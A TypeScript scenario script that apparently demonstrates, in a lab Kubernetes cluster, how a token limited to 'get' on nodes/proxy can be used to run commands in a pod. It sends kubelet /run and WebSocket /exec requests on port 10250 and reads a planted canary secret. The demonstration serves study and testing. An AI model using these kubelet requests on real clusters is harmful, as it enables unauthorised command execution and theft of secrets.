import { addresses, ports } from '../addresses';
import { curl } from './curl';
import { execAtKubelet } from './exec-at-kubelet';
import { playOf } from './play';

const FILE = '/run/secrets/canary';

export const getNodesProxy = playOf({
  steps: [
    'admin: kubectl run web',
    'admin: kubectl create clusterrole agent --verb=get --resource=RESOURCE',
    'agent: curl -k -H "Authorization: Bearer …" https://node-1:10250/pods',
    'attacker: curl -k -XPOST -H "Authorization: Bearer …" "https://node-1:10250/run/default/web/web?cmd=id"',
    'attacker: websocat -k -H "Authorization: Bearer …" "wss://node-1:10250/exec/default/web/web?command=cat…"',
  ],
  options: {
    resource: {
      about: 'what the agent may get',
      oneOf: ['nodes/proxy', 'nodes/pods'],
    },
  },
  async play(stage, { options }) {
    const cluster = await stage.cluster();
    const { signal } = stage;
    const { resource } = options;
    const secret = `S3CRET-${stage.random.hex(6)}`;
    cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
    await stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');
    const token = await cluster.credentials.token({
      namespace: 'monitoring',
      name: 'agent',
      rules: [{ apiGroups: [''], resources: [resource], verbs: ['get'] }],
    });
    const grant = `kubectl create clusterrole agent --verb=get --resource=${resource}`;
    await stage.did('admin', grant, 'clusterrole.rbac.authorization.k8s.io/agent created, and bound');

    const kubelet = `https://${addresses.node1}:${ports.kubelet}`;
    const pods = await curl(cluster.workstation, `${kubelet}/pods`, { token, signal });
    if (!pods.ok) throw new Error(`the agent cannot do its work: ${pods.words}`);
    const { items } = JSON.parse(pods.body) as { items: readonly unknown[] };
    await stage.did(
      'agent',
      'curl -k -H "Authorization: Bearer …" https://node-1:10250/pods',
      `${items.length} pods`,
    );

    const run = await curl(cluster.attackerHost, `${kubelet}/run/default/web/web?cmd=id`, {
      method: 'POST',
      token,
      signal,
    });
    const post =
      'curl -k -XPOST -H "Authorization: Bearer …" "https://node-1:10250/run/default/web/web?cmd=id"';
    if (run.ok) await stage.gained('attacker', post, run.body.trim(), 'a command run in default/web');
    else await stage.refused('attacker', post, run.words);

    const path = `/exec/default/web/web?command=cat&command=${FILE}&output=1`;
    const executed = await execAtKubelet(cluster.attackerHost, addresses.node1, { path, token, signal });
    const upgrade =
      'websocat -k -H "Authorization: Bearer …" "wss://node-1:10250/exec/default/web/web?command=cat…"';
    if (executed.text.includes(secret)) {
      await stage.gained(
        'attacker',
        upgrade,
        executed.text,
        'a command run in default/web by a GET, and its secret',
      );
    } else await stage.refused('attacker', upgrade, executed.text);
  },
});
